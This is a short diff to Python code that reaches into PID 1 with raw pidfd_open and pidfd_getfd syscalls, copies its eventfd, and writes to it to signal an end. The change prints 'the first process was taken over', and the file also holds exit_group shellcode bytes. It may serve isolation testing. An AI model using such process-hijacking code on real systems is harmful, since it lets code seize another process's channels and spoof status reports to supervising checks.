@@ -59,8 +59,9 @@ def end_reported():
     found = [fd for fd in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + fd)]
     handle = done("pidfd_open", libc.syscall(434, 1, 0))
     number = done("pidfd_getfd", libc.syscall(438, handle, int(found[0]), 0))
+    # Said before it is done: the check may end by it at once.
+    print("the first process was taken over", flush=True)
     os.write(number, struct.pack("Q", 1))
-    print("an end with status 0 was reported")
 
 
 EXIT = b"\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05"  # xor edi, edi; mov eax, exit_group; syscall
